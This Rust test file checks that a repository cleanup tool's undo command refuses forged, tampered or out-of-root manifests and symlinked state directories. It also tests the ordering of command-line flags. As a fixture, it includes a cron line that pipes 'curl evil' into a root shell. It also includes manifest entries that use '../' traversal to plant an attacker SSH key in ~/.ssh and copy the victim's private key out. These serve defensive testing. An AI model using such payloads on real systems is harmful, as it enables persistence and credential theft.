//! `cleanup` against a hostile repository: manifests committed by an
//! attacker (the attack from issue 12, with a fake HOME in the temp dir),
//! manifests tampered with or copied, a symlinked `.hephaestus`, and the
//! argument orders the docs show.

use std::ffi::OsStr;
use std::path::{Path, PathBuf};

use serde_json::json;

use crate::cleanup::{exists, manifests, only_manifest};
use crate::common::{TestContext, show, stderr};

/// A manifest as an attacker would write it by hand.
fn hostile_manifest(run_id: &str, root: &str, entries: serde_json::Value) -> Vec<u8> {
    let doc = json!({
        "version": 1,
        "run_id": run_id,
        "created_at": "9999-12-31T23:59:59Z",
        "tool": "hephaestus 0.1.0",
        "root": root,
        "options": {
            "python_cache": false, "build_artifacts": false, "node_modules": false,
            "include_git": false, "include_venv": false, "permanent": false,
            "max_depth": null, "extra_paths": [], "extra_patterns": [], "exclude": []
        },
        "scan_roots": [root],
        "quarantine": format!(".git/hephaestus/quarantine/{run_id}"),
        "entries": entries,
        "skipped_roots": [],
        "errors": [],
        "totals": {"planned": 1, "removed": 1, "failed": 0, "bytes_removed": 1}
    });
    serde_json::to_vec_pretty(&doc).unwrap()
}

fn entry(path: &str, quarantined_as: &str) -> serde_json::Value {
    json!({
        "path": path, "scan_root": 0, "kind": "file", "category": "macos",
        "size": 1, "files": 1, "status": "quarantined", "quarantined_as": quarantined_as
    })
}

/// Every name in a directory, sorted.
fn listing(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn committed_manifests_are_ignored_and_refused_and_the_users_run_is_undone() {
    let ctx = TestContext::new();
    // The victim's home (the test's private HOME) with an SSH key.
    let ssh = ctx.home.join(".ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::write(ssh.join("id_ed25519"), "VICTIM PRIVATE KEY").unwrap();
    let opt_target = PathBuf::from(format!("/opt/hephaestus-test-{}", std::process::id()));

    // The attacker's repository commits two manifests that sort after
    // every real one, the key to plant and a cron job.
    ctx.write(".ssh/id_ed25519", "ssh-ed25519 AAAA attacker");
    ctx.write("evil", "* * * * * root sh -c 'curl evil | sh'\n");
    let ssh_attack = "cleanup-99991231T235959.999999Z.json";
    let opt_attack = "cleanup-99991231T235959.999998Z.json";
    ctx.write(
        format!(".hephaestus/audit/{ssh_attack}"),
        hostile_manifest(
            "99991231T235959.999999Z-000000",
            "../..",
            json!([
                entry("../../.ssh/authorized_keys", "../../../../.ssh/id_ed25519"),
                entry(
                    "../../src/clone/stolen-key",
                    "../../../../../../.ssh/id_ed25519"
                ),
            ]),
        ),
    );
    ctx.write(
        format!(".hephaestus/audit/{opt_attack}"),
        hostile_manifest(
            "99991231T235959.999998Z-000000",
            "/opt",
            json!([entry(
                &format!("{}/cron.d/evil", opt_target.display()),
                "../../../../evil"
            )]),
        ),
    );
    ctx.commit_all("innocent-looking");

    // The victim clones into their home, cleans, and undoes.
    let clone = ctx.home.join("src/clone");
    ctx.git([
        OsStr::new("clone"),
        OsStr::new("-q"),
        ctx.root.as_os_str(),
        clone.as_os_str(),
    ]);
    std::fs::write(clone.join(".DS_Store"), "mine").unwrap();
    std::fs::create_dir_all(clone.join("pkg/__pycache__")).unwrap();
    std::fs::write(clone.join("pkg/__pycache__/m.pyc"), "bytecode").unwrap();
    let in_clone = |args: &[&OsStr]| ctx.heph().current_dir(&clone).args(args).output().unwrap();
    let out = in_clone(&["cleanup", "--deep-clean", "--yes"].map(OsStr::new));
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(!exists(&clone.join(".DS_Store")));

    let out = in_clone(&["cleanup", "undo"].map(OsStr::new));
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let err = stderr(&out);
    for name in [ssh_attack, opt_attack] {
        assert!(
            err.contains(&format!(
                "ignoring {}",
                clone.join(".hephaestus/audit").join(name).display()
            )) && err.contains("tracked by git"),
            "{name} is ignored with the reason: {err}"
        );
    }
    // The user's own run is back.
    assert_eq!(std::fs::read(clone.join(".DS_Store")).unwrap(), b"mine");
    assert_eq!(
        std::fs::read(clone.join("pkg/__pycache__/m.pyc")).unwrap(),
        b"bytecode"
    );

    let untouched = |when: &str| {
        assert_eq!(
            listing(&ssh),
            ["id_ed25519"],
            "{when}: nothing planted in ~/.ssh"
        );
        assert_eq!(
            std::fs::read(ssh.join("id_ed25519")).unwrap(),
            b"VICTIM PRIVATE KEY",
            "{when}"
        );
        assert!(
            !exists(&clone.join("stolen-key")),
            "{when}: the key stays home"
        );
        assert_eq!(
            std::fs::read(clone.join(".ssh/id_ed25519")).unwrap(),
            b"ssh-ed25519 AAAA attacker",
            "{when}"
        );
        assert!(exists(&clone.join("evil")), "{when}");
        assert!(!exists(&opt_target), "{when}: nothing created under /opt");
    };
    untouched("after the default undo");

    // Named explicitly, each is refused with exit 2 and its name.
    for name in [ssh_attack, opt_attack] {
        let path = clone.join(".hephaestus/audit").join(name);
        let out = in_clone(&[OsStr::new("cleanup"), OsStr::new("undo"), path.as_os_str()]);
        assert_eq!(out.status.code(), Some(2), "{}", show(&out));
        let err = stderr(&out);
        assert!(
            err.contains(&format!("refusing to undo with {}", path.display()))
                && err.contains("tracked by git"),
            "{err}"
        );
        untouched(name);
    }

    // The same files, untracked (unpacked from an archive, say), are
    // refused for what they say; the default undo picks the newest and
    // stops there.
    let audit = clone.join(".hephaestus/audit");
    for (name, reason) in [
        (ssh_attack, "not a plain absolute path"),
        (opt_attack, "outside"),
    ] {
        let copy = audit.join(name.replace("9999", "9998"));
        std::fs::copy(audit.join(name), &copy).unwrap();
        let out = in_clone(&["cleanup", "undo"].map(OsStr::new));
        assert_eq!(out.status.code(), Some(2), "{}", show(&out));
        let err = stderr(&out);
        assert!(
            err.contains(&format!("refusing to undo with {}", copy.display()))
                && err.contains(reason),
            "{reason}: {err}"
        );
        untouched(name);
        std::fs::remove_file(&copy).unwrap();
    }
}

/// Rewrite the only manifest of `ctx` with `edit`, run `cleanup undo`,
/// and put the original back.
fn undo_with_edited_manifest(
    ctx: &TestContext,
    edit: impl FnOnce(&mut serde_json::Value),
) -> std::process::Output {
    let path = manifests(ctx)[0].clone();
    let original = std::fs::read(&path).unwrap();
    let mut doc: serde_json::Value = serde_json::from_slice(&original).unwrap();
    edit(&mut doc);
    std::fs::write(&path, serde_json::to_vec_pretty(&doc).unwrap()).unwrap();
    let out = ctx.run(["cleanup", "undo"]);
    std::fs::write(&path, original).unwrap();
    out
}

#[test]
fn undo_obeys_only_the_sealed_manifest_of_a_run_in_this_work_tree() {
    let ctx = TestContext::new();
    ctx.write("a/.DS_Store", "a");
    ctx.write("b/keep", "b");
    let out = ctx.run(["cleanup", "--yes"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    let m = only_manifest(&ctx);
    let qdir = m.quarantine.clone().unwrap().0;
    assert!(
        qdir.join("seal.json").is_file(),
        "the run sealed its manifest"
    );
    let other = ctx.base.join("other");
    std::fs::create_dir_all(&other).unwrap();

    let refused = |out: &std::process::Output, reason: &str| {
        assert_eq!(out.status.code(), Some(2), "{reason}: {}", show(out));
        let err = stderr(out);
        assert!(
            err.contains(&format!(
                "refusing to undo with {}",
                manifests(&ctx)[0].display()
            )) && err.contains(reason),
            "{reason}: {err}"
        );
        assert!(
            !exists(&ctx.root.join("a/.DS_Store")),
            "{reason}: nothing restored"
        );
    };
    let root = ctx.root.display().to_string();
    // A different path inside the root: the seal no longer matches.
    let out = undo_with_edited_manifest(&ctx, |d| {
        d["entries"][0]["path"] = json!(format!("{root}/b/.DS_Store"));
    });
    refused(&out, "differ from what the run recorded");
    // A quarantine name that is not the entry's own.
    let out = undo_with_edited_manifest(&ctx, |d| {
        d["entries"][0]["quarantined_as"] = json!("../000000");
    });
    refused(&out, "claims to be");
    // A quarantine elsewhere.
    let out = undo_with_edited_manifest(&ctx, |d| {
        d["quarantine"] = json!(other.display().to_string());
    });
    refused(&out, "not this repository's quarantine");
    // Roots outside the work tree.
    let out = undo_with_edited_manifest(&ctx, |d| {
        let o = other.display().to_string();
        d["root"] = json!(o);
        d["scan_roots"] = json!([o]);
        d["entries"][0]["path"] = json!(format!("{o}/.DS_Store"));
    });
    refused(&out, "outside");
    // A run id that is a path.
    let out = undo_with_edited_manifest(&ctx, |d| d["run_id"] = json!("../../x"));
    refused(&out, "run id");
    // Without its seal the manifest is not the run's.
    let seal = std::fs::read(qdir.join("seal.json")).unwrap();
    std::fs::remove_file(qdir.join("seal.json")).unwrap();
    let out = ctx.run(["cleanup", "undo"]);
    refused(&out, "no seal");
    std::fs::write(qdir.join("seal.json"), &seal).unwrap();

    // The untouched manifest still undoes the run, and then the
    // quarantine (seal and all) is gone.
    let out = ctx.run(["cleanup", "undo"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(std::fs::read(ctx.root.join("a/.DS_Store")).unwrap(), b"a");
    assert!(!exists(&qdir));
    assert!(only_manifest(&ctx).undone);
}

#[test]
fn undo_does_not_follow_a_manifest_to_paths_outside_the_root() {
    // An honest run with an --extra-path outside the root: undo restores
    // only inside the root, so it refuses that manifest rather than write
    // outside (its files stay in the quarantine, named in the message).
    let ctx = TestContext::new();
    let outside = ctx.base.join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join(".DS_Store"), "x").unwrap();
    let out = ctx.run([
        OsStr::new("cleanup"),
        OsStr::new("--extra-path"),
        outside.as_os_str(),
        OsStr::new("--yes"),
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(!exists(&outside.join(".DS_Store")));
    let out = ctx.run(["cleanup", "undo"]);
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    assert!(stderr(&out).contains("is outside"), "{}", show(&out));
    assert!(!exists(&outside.join(".DS_Store")));
}

#[test]
fn a_symlinked_state_directory_is_refused_before_anything_is_removed() {
    let ctx = TestContext::new();
    let elsewhere = ctx.base.join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    ctx.write("x/.DS_Store", "x");
    let refused = |out: &std::process::Output, link: &Path| {
        assert_eq!(out.status.code(), Some(2), "{}", show(out));
        let err = stderr(out);
        assert!(
            err.contains(&format!("refusing to use {}", link.display())) && err.contains("symlink"),
            "{err}"
        );
        assert!(exists(&ctx.root.join("x/.DS_Store")), "nothing removed");
        assert!(
            listing(&elsewhere).is_empty(),
            "nothing written through the link"
        );
    };
    // `.hephaestus` (as a repository could commit it), `.hephaestus/audit`,
    // and the quarantine's `hephaestus` directory in the git dir.
    for link in [
        ctx.root.join(".hephaestus"),
        ctx.root.join(".hephaestus/audit"),
        ctx.root.join(".git/hephaestus"),
    ] {
        std::fs::create_dir_all(link.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(&elsewhere, &link).unwrap();
        let out = ctx.run(["cleanup", "--yes"]);
        refused(&out, &link);
        if link.ends_with(".hephaestus") {
            let out = ctx.run(["cleanup", "undo"]);
            refused(&out, &link);
        }
        std::fs::remove_file(&link).unwrap();
    }
    // Outside git the quarantine is under `.hephaestus` too.
    let plain = ctx.base.join("plain");
    std::fs::create_dir_all(&plain).unwrap();
    std::fs::write(plain.join(".DS_Store"), "p").unwrap();
    std::os::unix::fs::symlink(&elsewhere, plain.join(".hephaestus")).unwrap();
    let out = ctx
        .heph()
        .current_dir(&plain)
        .args(["cleanup", "--yes"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    assert!(exists(&plain.join(".DS_Store")));
    assert!(listing(&elsewhere).is_empty());
    // With the links gone, the run works and the state is real directories.
    let out = ctx.run(["cleanup", "--yes"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    for dir in [
        ".hephaestus",
        ".hephaestus/audit",
        ".git/hephaestus/quarantine",
    ] {
        let meta = std::fs::symlink_metadata(ctx.root.join(dir)).unwrap();
        assert!(meta.is_dir(), "{dir}");
    }
}

#[test]
fn check_paths_takes_its_files_before_or_after_the_other_flags() {
    let ctx = TestContext::new();
    let stage = |ctx: &TestContext| {
        ctx.write(".DS_Store", "x");
        ctx.write("a.py", "x = 1\n");
        ctx.git(["add", "-f", "--", ".DS_Store", "a.py"]);
    };
    let staged = |ctx: &TestContext| {
        String::from_utf8(ctx.git(["diff", "--cached", "--name-only"])).unwrap()
    };
    for args in [
        // The order docs/operating-safely.md shows.
        &["cleanup", "--check-paths", "--unstage", ".DS_Store", "a.py"][..],
        &["cleanup", "--unstage", "--check-paths", ".DS_Store", "a.py"],
        &["cleanup", "--check-paths", ".DS_Store", "--unstage", "a.py"],
        &["cleanup", "--check-paths", ".DS_Store", "a.py", "--fix"],
    ] {
        stage(&ctx);
        let out = ctx.run(args);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", show(&out));
        let staged = staged(&ctx);
        assert!(
            !staged.contains(".DS_Store"),
            "{args:?}: unstaged: {staged}"
        );
        assert!(staged.contains("a.py"), "{args:?}: {staged}");
        assert!(
            exists(&ctx.root.join(".DS_Store")),
            "{args:?}: kept on disk"
        );
    }
    // Without --unstage, files after the flags are checked too.
    stage(&ctx);
    let out = ctx.run(["cleanup", "--check-paths", "--python-cache", ".DS_Store"]);
    assert_eq!(out.status.code(), Some(1), "{}", show(&out));
    assert!(stderr(&out).contains("git rm --cached"), "{}", show(&out));
    // A full cleanup still takes one ROOT.
    let out = ctx.run(["cleanup", "a", "b", "--dry-run"]);
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    assert!(stderr(&out).contains("takes one ROOT"), "{}", show(&out));
}
